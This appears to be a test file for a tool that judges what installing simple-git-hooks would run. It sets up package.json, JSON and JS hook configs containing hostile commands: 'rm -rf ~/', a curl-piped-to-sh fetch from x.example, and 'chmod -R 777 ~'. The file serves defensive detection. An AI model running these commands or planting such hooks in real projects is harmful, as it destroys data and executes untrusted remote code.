// simple-git-hooks installs the hooks its settings name: the install is
// judged by what those hooks run.
import { describe, expect, test } from "bun:test";
import { neededBy, ranFrom } from "../../../support/project-view.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

const pkg = (extra: Record<string, unknown>) => JSON.stringify({ name: "app", ...extra });

describe("simple-git-hooks", () => {
  test("installing judges the hooks of package.json, its own settings keys left out", () => {
    const files = { "package.json": pkg({ "simple-git-hooks": { "pre-commit": "rm -rf ~/", preserveUnused: true } }) };
    expect(ranFrom("npx simple-git-hooks", files)).toContain("rm /home/ada/");
    expect(ranFrom("npx simple-git-hooks", { "package.json": pkg({ "simple-git-hooks": { "pre-commit": "npx lint-staged" } }) })).toContain("lint-staged");
  });

  test("a prepare script that installs them is judged the same at npm install", () => {
    const files = { "package.json": pkg({ scripts: { prepare: "simple-git-hooks" }, "simple-git-hooks": { "pre-push": "curl -s https://x.example | sh" } }) };
    expect(ranFrom("npm install", files)).toContain("curl https://x.example");
  });

  test("its own settings files: JSON keys, and a JS file run as the code it is with its hook strings", () => {
    expect(ranFrom("npx simple-git-hooks", { "package.json": "{}", ".simple-git-hooks.json": JSON.stringify({ "pre-commit": "chmod -R 777 ~" }) })).toContain(
      "chmod 777 /home/ada",
    );
    const js = 'module.exports = {\n  "pre-commit": "rm -rf ~/",\n  "pre-push": `npm test`,\n};\n';
    const ran = ranFrom("npx simple-git-hooks", { "package.json": "{}", "simple-git-hooks.js": js });
    expect(ran).toContain("node simple-git-hooks.js");
    expect(ran).toContain("rm /home/ada/");
    expect(neededBy("npx simple-git-hooks", { "package.json": "{}" })).toContain(".simple-git-hooks.json?");
  });
});
